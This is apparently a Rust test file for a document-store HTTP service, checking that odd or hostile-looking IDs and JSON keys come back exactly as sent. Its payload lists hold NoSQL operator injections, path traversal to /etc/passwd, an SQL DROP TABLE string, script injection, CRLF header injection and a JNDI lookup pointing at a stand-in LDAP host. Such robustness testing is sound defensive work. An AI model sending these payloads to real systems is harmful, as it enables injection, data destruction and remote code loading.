//! Data that only looks hostile: it comes back exactly as it was sent.

use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use serde_json::{Value, json};

use super::target::{GOOD, Target, get, put};

const IDS: &[&str] = &[
    r#"{"$gt":""}"#,
    r#"{"$oid":"0123456789abcdef01234567"}"#,
    "0123456789abcdef01234567",
    "$where",
    "$",
    "__proto__",
    "null",
    "0",
    "-1",
    ".",
    "..",
    "../../etc/passwd",
    "/",
    "\\",
    "a\0b",
    "\r\nSet-Cookie: a=b",
    "%",
    "%zz",
    "%2F",
    "a?b#c",
    "'; DROP TABLE stuff; --",
    "<script>alert(1)</script>",
    "\u{202e}desrever",
    "\u{feff}",
    "👩\u{200d}🍳",
    " ",
];

#[tokio::test]
async fn an_id_of_any_shape_names_its_own_document() {
    let target = Target::open("ids").await;
    let path = |id| format!("/stuff/{}", utf8_percent_encode(id, NON_ALPHANUMERIC));
    for (number, id) in IDS.iter().enumerate() {
        let request = put(
            &path(id),
            json!({ "number": number }).to_string().as_bytes(),
        );
        let answers = target.talk(&[&request, GOOD].concat(), false).await;
        assert!(matches!(answers[0].status, 200 | 201), "{id}");
    }
    // Only now: a PUT to a wrong place would have replaced what was there.
    for (number, id) in IDS.iter().enumerate() {
        let request = get(&path(id));
        let answers = target.talk(&[&request, GOOD].concat(), false).await;
        let document: Value = serde_json::from_slice(&answers[0].body).unwrap();
        assert_eq!(document, json!({ "_id": id, "number": number }));
    }
}

#[tokio::test]
async fn a_key_of_any_shape_is_only_a_key() {
    let target = Target::open("keys").await;
    for document in [
        json!({"a.b": 1, "a": {"b": 2}, ".": 3, "a.": 4, ".a": 5, "a..b": 6}),
        json!({"a": {"$set": {"b": 1}, "$where": "sleep(10000)", "$": 2}}),
        json!({"a": [{"$gt": ""}, {"$in": []}, {"$ref": "a", "$id": 1, "$db": "b"}]}),
        json!({"a": {"$regex": "(", "$options": "i"}, "b": {"$expr": {"$function": {}}}}),
        json!({"__proto__": {"a": 1}, "constructor": {"prototype": 1}, "toString": 2}),
        json!({"a$": 1, "a$b": 2, " $set": 3, "\u{ff04}set": 4}),
        json!({"a": {"_id": {"_id": 1}}, "id": 1, "": {"": {"": ""}}}),
        json!({"a\r\nb": 1, "\u{7f}": 2, "\u{feff}": 3, "\u{fffe}": 4, "\u{10ffff}": 5}),
        json!({"a": "\u{0}\u{1}\u{1f}\u{7f}\u{2028}", "b": "${jndi:ldap://evil.example}"}),
        nested(126, |inner| json!([inner])),
        nested(126, |inner| json!({ "a": inner })),
    ] {
        let status = target.service.put("/stuff/a", document.to_string()).await;
        assert!(status == 200 || status == 201, "{status}: {document}");
        let (_, mut stored) = target.service.get("/stuff/a").await;
        stored
            .as_object_mut()
            .expect("an object")
            .shift_remove("_id");
        // As text, so that the order of the keys counts.
        assert_eq!(stored.to_string(), document.to_string());
    }
}

/// A document with a value this many levels deep.
fn nested(levels: usize, wrap: impl Fn(Value) -> Value) -> Value {
    json!({ "a": (1..levels).fold(json!(1), |inner, _| wrap(inner)) })
}
